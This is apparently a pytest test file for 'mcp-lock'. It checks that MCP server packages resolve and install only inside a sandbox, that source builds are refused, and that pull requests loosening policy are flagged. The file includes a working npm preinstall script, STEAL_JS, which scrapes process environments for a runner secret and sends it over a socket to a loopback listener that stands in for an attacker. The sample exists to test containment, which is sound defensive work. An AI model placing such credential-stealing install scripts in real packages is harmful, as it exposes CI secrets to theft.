"""No package code outside the sandbox: resolving and installing run sandboxed, and builds are refused.

mcp-lock runs as a child process here, with the runner's secret in its own environment (where a build
backend reads it, from /proc/<pid>/environ), against a loopback PEP 503 index (tests/loopback_pypi.py) and
the loopback npm registry. The attacking code writes a marker outside the staging area and sends what it
found to a loopback listener standing in for the attacker.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from artifacts.npm_registry import Registry
from loopback_pypi import SERVER_MODULE, Index, listener, marker_backend, serve

ROOT = Path(__file__).resolve().parents[2]
SECRET_NAME = "RUNNER_SECRET_TOKEN"
SECRET = "ghs_sandboxed0123456789secret"
PACKAGE = "demo-server"


def git(cwd: Path, *args: str) -> None:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    who = ["-c", "user.name=Ada Reviewer", "-c", "user.email=ada@example.com"]
    subprocess.run(["git", *who, *args], cwd=cwd, env=env, check=True, capture_output=True)


class Attack:
    def __init__(self, tmp_path: Path, port: int, received: list[bytes]) -> None:
        self.marker = tmp_path / "marker-outside-the-sandbox"
        self.port, self.received = port, received

    def assert_contained(self) -> None:
        assert not self.marker.exists(), self.marker.read_text()
        assert not any(SECRET.encode() in got for got in self.received), self.received


@pytest.fixture
def attack(tmp_path: Path) -> Iterator[Attack]:
    with listener() as (port, received):
        yield Attack(tmp_path, port, received)


@pytest.fixture
def index(tmp_path: Path, attack: Attack) -> Iterator[Index]:
    """demo-server 1.0.0 as a wheel (a stdio MCP server); 1.0.1 only as an sdist whose backend attacks."""
    served = Index(tmp_path / "index")
    served.wheel(PACKAGE, "1.0.0", scripts={PACKAGE: SERVER_MODULE})
    served.sdist(PACKAGE, "1.0.1", marker_backend(attack.marker, attack.port, SECRET_NAME))
    with serve(served):
        yield served


def mcp_lock(repo: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """mcp-lock as the runner starts it: its own process, the secret in its environment."""
    env = {
        **os.environ,
        SECRET_NAME: SECRET,
        "MCP_LOCK_STORE": str(tmp_path / "store"),
        "UV_CACHE_DIR": str(tmp_path / "uv-cache"),
        "npm_config_cache": str(tmp_path / "npm-cache"),
    }
    command = [sys.executable, "-m", "scanner", args[0], "--repo", str(repo), "--quiet", *args[1:]]
    return subprocess.run(command, env=env, cwd=ROOT, capture_output=True, text=True, timeout=300)


def declare(repo: Path, url: str, spec: str) -> None:
    entry = {"command": "uvx", "args": [spec], "env": {"UV_DEFAULT_INDEX": url}}
    (repo / ".mcp.json").write_text(json.dumps({"mcpServers": {"py": entry}}), encoding="utf-8")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    if shutil.which("uv") is None:
        pytest.fail("uv is not on PATH (the test extra installs it into the venv)")
    folder = tmp_path / "repo"
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    return folder


def test_a_wheel_only_server_from_the_index_pins(repo: Path, tmp_path: Path, index: Index) -> None:
    declare(repo, index.url, f"{PACKAGE}==1.0.0")
    done = mcp_lock(repo, tmp_path, "lock")
    assert done.returncode == 0, done.stdout + done.stderr
    tree = json.loads((repo / "mcp-lock.json").read_text())["servers"]["py"]["launch"]["tree"]
    assert [(p["name"], p["version"]) for p in tree["packages"]] == [(PACKAGE, "1.0.0")]


def test_lock_refuses_to_build_an_sdist_and_names_it(repo: Path, tmp_path: Path, index: Index, attack: Attack) -> None:
    declare(repo, index.url, f"{PACKAGE}==1.0.1")
    done = mcp_lock(repo, tmp_path, "lock")
    attack.assert_contained()
    assert done.returncode == 1, done.stdout + done.stderr
    said = done.stdout + done.stderr
    assert "build-refused" in said and f"{PACKAGE} has no wheel" in said and "build-from-source" in said, said
    assert "/files/demo_server-1.0.1.tar.gz" not in index.served  # not even downloaded


def test_check_of_a_new_sdist_release_never_builds_it(
    repo: Path, tmp_path: Path, index: Index, attack: Attack
) -> None:
    declare(repo, index.url, PACKAGE)
    index.files["demo-server"].remove("demo_server-1.0.1.tar.gz")
    assert mcp_lock(repo, tmp_path, "lock").returncode == 0
    index.files["demo-server"].append("demo_server-1.0.1.tar.gz")  # published overnight, sdist only
    shutil.rmtree(tmp_path / "store")  # a cold runner
    done = mcp_lock(repo, tmp_path, "check")
    attack.assert_contained()
    # Without builds the sdist-only release is no candidate: uv keeps the release that ships a wheel.
    assert done.returncode == 0 and "tree-changed" not in done.stdout, done.stdout + done.stderr
    assert "/files/demo_server-1.0.1.tar.gz" not in index.served


def test_check_base_of_a_bump_to_an_sdist_never_builds_it(
    repo: Path, tmp_path: Path, index: Index, attack: Attack
) -> None:
    declare(repo, index.url, f"{PACKAGE}==1.0.0")
    assert mcp_lock(repo, tmp_path, "lock").returncode == 0
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "Pin demo-server")
    git(repo, "checkout", "-q", "-b", "bump")
    declare(repo, index.url, f"{PACKAGE}==1.0.1")
    git(repo, "commit", "-q", "-am", "Bump demo-server")
    done = mcp_lock(repo, tmp_path, "check", "--base", "main")
    attack.assert_contained()
    said = done.stdout + done.stderr
    assert done.returncode == 1 and "build-refused" in said and PACKAGE in said, said


def test_a_build_the_policy_allows_runs_only_in_the_sandbox(
    repo: Path, tmp_path: Path, index: Index, attack: Attack
) -> None:
    (repo / "mcp-lock.yaml").write_text(f"build-from-source: [{PACKAGE}]\n", encoding="utf-8")
    declare(repo, index.url, f"{PACKAGE}==1.0.1")
    done = mcp_lock(repo, tmp_path, "lock")
    assert "/files/demo_server-1.0.1.tar.gz" in index.served  # uv was let build it
    assert done.returncode == 1 and "this backend never builds" in done.stdout + done.stderr  # it did run...
    attack.assert_contained()  # ...but saw no secret and wrote nothing outside
    assert attack.received == []  # and reached no host but the index (tests/install/test_step_network.py)


# A preinstall script that reads every environment it can see and reports home, as the 2025 npm worms did.
STEAL_JS = (
    "const fs=require('fs');let f=[];for(const p of fs.readdirSync('/proc')){try{"
    "for(const i of fs.readFileSync('/proc/'+p+'/environ','latin1').split(String.fromCharCode(0)))"
    "if(i.startsWith('NAME='))f.push(i.slice(LEN))}catch(x){}}"
    "try{fs.writeFileSync('MARKER','ran: '+f.join(','))}catch(x){}try{fs.writeFileSync('ran.txt','ran')}catch(x){}"
    "const s=require('net').connect(PORT,'127.0.0.1',()=>s.end('secret:'+f.join(',')));s.on('error',()=>{})"
)


@pytest.mark.parametrize("sandbox", ["on", "off"])
def test_an_npm_preinstall_script_never_runs_outside_the_sandbox(
    tmp_path: Path, npm_registry: Registry, attack: Attack, sandbox: str
) -> None:
    if shutil.which("npm") is None:
        pytest.fail("npm is not installed (Node.js provides it)")
    code = (
        STEAL_JS.replace("NAME", SECRET_NAME).replace("LEN", str(len(SECRET_NAME) + 1))
        .replace("MARKER", str(attack.marker)).replace("PORT", str(attack.port))
    )
    scripts = {"preinstall": f'node -e "{code}"'}
    npm_registry.publish("mcp-preinstall", "1.0.0", "x", scripts=scripts, hasInstallScript=True)
    repo = tmp_path / "repo"
    repo.mkdir()
    (tmp_path / "npm-cache").mkdir()
    (repo / "mcp-lock.yaml").write_text(f"sandbox: {sandbox}\n", encoding="utf-8")
    registry = {"npm_config_registry": npm_registry.url}
    entry = {"command": "npx", "args": ["-y", "mcp-preinstall@1.0.0"], "env": registry}
    (repo / ".mcp.json").write_text(json.dumps({"mcpServers": {"demo": entry}}), encoding="utf-8")
    done = mcp_lock(repo, tmp_path, "lock")
    assert done.returncode == 0, done.stdout + done.stderr
    assert list((tmp_path / "store").rglob("ran.txt")), "the script ran (in the sandbox, its package writable)"
    assert attack.received == []  # install scripts reach only the registry (tests/install/test_script_hosts.py)
    attack.assert_contained()


def test_a_pull_request_that_lets_its_own_sdist_build_is_loosening_and_still_refused(
    repo: Path, tmp_path: Path, index: Index, attack: Attack
) -> None:
    declare(repo, index.url, f"{PACKAGE}==1.0.0")
    assert mcp_lock(repo, tmp_path, "lock").returncode == 0
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "Pin demo-server")
    git(repo, "checkout", "-q", "-b", "bump")
    (repo / "mcp-lock.yaml").write_text(f"build-from-source: [{PACKAGE}]\n", encoding="utf-8")
    declare(repo, index.url, f"{PACKAGE}==1.0.1")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "Bump demo-server and let it build")
    done = mcp_lock(repo, tmp_path, "check", "--base", "main")
    attack.assert_contained()
    said = done.stdout + done.stderr
    assert done.returncode == 1 and "policy-loosened" in said and "build-from-source" in said, said
    assert "build-refused" in said and "/files/demo_server-1.0.1.tar.gz" not in index.served, said
